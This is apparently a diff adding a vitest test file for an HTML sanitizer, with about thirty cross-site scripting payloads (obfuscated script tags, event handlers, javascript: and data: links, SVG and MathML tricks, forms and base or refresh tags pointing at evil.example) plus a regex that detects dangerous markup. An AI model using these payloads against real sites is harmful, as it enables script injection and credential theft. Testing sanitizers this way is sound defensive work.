@@ -1,0 +1,79 @@
+import { describe, expect, it } from 'vitest';
+import { cleanHtml } from './clean-html';
+
+/** What must never leave the server inside a block, whatever surrounds it. */
+const dangerous =
+  /<\s*(script|style|iframe|object|embed|svg|math|base|meta|link|form|input|button|textarea|template|noscript)|\son\w+\s*=|javascript:|vbscript:|data:|srcdoc|<!--/i;
+
+const attacks: [string, string][] = [
+  ['a script', '<script>alert(1)</script>'],
+  ['a script in odd case', '<ScRiPt src=//evil.example></sCrIpT>'],
+  ['a script split by another', '<scr<script>ipt>alert(1)</scr</script>ipt>'],
+  ['an event handler', '<img src="/a.png" onerror="alert(1)">'],
+  ['an event handler behind a slash', '<p/onclick=alert(1)>x</p>'],
+  ['an event handler over lines', '<p\nonmouseover\n=\n"alert(1)">x</p>'],
+  ['a javascript: address', '<a href="javascript:alert(1)">x</a>'],
+  ['a javascript: address in entities', '<a href="&#106;avascript&colon;alert(1)">x</a>'],
+  ['a javascript: address with a tab', '<a href="java\tscript:alert(1)">x</a>'],
+  ['a javascript: address with a control character', '<a href="\u0001javascript:alert(1)">x</a>'],
+  ['a data: address', '<a href="data:text/html,<script>alert(1)</script>">x</a>'],
+  ['a data: image', '<img src="data:image/svg+xml;base64,PHN2Zz4=">'],
+  ['a vbscript: address', '<a href="vbscript:msgbox(1)">x</a>'],
+  ['a frame with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+  ['an object', '<object data="/x.swf"><embed src="/x.swf"></object>'],
+  ['an SVG with a script', '<svg><script>alert(1)</script></svg>'],
+  ['an SVG with an animation', '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>'],
+  ['an SVG use', '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'],
+  ['MathML', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>'],
+  ['a base', '<base href="https://evil.example/">'],
+  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['a form', '<form action="https://evil.example"><input name=password><button>Los</button></form>'],
+  ['a style', '<style>@import "https://evil.example";</style>'],
+  ['a link element', '<link rel="stylesheet" href="https://evil.example/a.css">'],
+  ['a comment that hides a tag', '<!--><img src=x onerror=alert(1)>-->'],
+  ['a noscript trick', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
+  ['an end of the embedded state', '</script><script>alert(1)</script>'],
+  ['a template', '<template><script>alert(1)</script></template>'],
+  ['an unfinished tag', '<img src="/a.png" onerror=alert(1)//'],
+];
+
+describe('cleanHtml', () => {
+  it.each(attacks)('takes out %s', (_what, html) => {
+    const cleaned = cleanHtml(`<p>vorher</p>${html}<p>nachher</p>`);
+    expect(cleaned).not.toMatch(dangerous);
+    expect(cleaned).toContain('<p>vorher</p>');
+    expect(cleanHtml(cleaned)).toBe(cleaned);
+  });
+
+  it.each(['https://evil.example/a.png', '//evil.example/a.png', '/\\evil.example/a.png', 'a.png', ''])(
+    'takes out an image that is not of this site: %s',
+    (src) => {
+      expect(cleanHtml(`<p>a</p><img src="${src}" alt="x">`)).toBe('<p>a</p>');
+    },
+  );
+
+  it.each(['//evil.example', '/\\evil.example', '\\\\evil.example'])('takes the address from a link to %s', (href) => {
+    expect(cleanHtml(`<a href="${href}">x</a>`)).toBe('<a>x</a>');
+  });
+
+  it('takes out styles, classes and ids, which could imitate the page', () => {
+    expect(cleanHtml('<p style="position:fixed" class="bar" id="login">x</p>')).toBe('<p>x</p>');
+  });
+
+  it('keeps the structure of a text, its links, tables, languages and own images', () => {
+    const html =
+      '<h2>Titel</h2><p lang="en">Text <strong>wichtig</strong><br />neu</p><ul><li><a href="/about#a">wir</a></li><li><a href="mailto:a@b.example">Post</a></li></ul><table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>';
+    expect(cleanHtml(html)).toBe(html);
+    expect(cleanHtml('<img src="/bild.svg" alt="Bild">')).toBe('<img src="/bild.svg" alt="Bild" loading="lazy" />');
+  });
+
+  it('lets a foreign page not reach back', () => {
+    expect(cleanHtml('<a href="https://a.example" rel="opener" target="_blank">x</a>')).toBe(
+      '<a href="https://a.example" rel="noopener noreferrer">x</a>',
+    );
+  });
+
+  it('keeps one heading a page: h1 becomes h2', () => {
+    expect(cleanHtml('<h1>Titel</h1>')).toBe('<h2>Titel</h2>');
+  });
+});
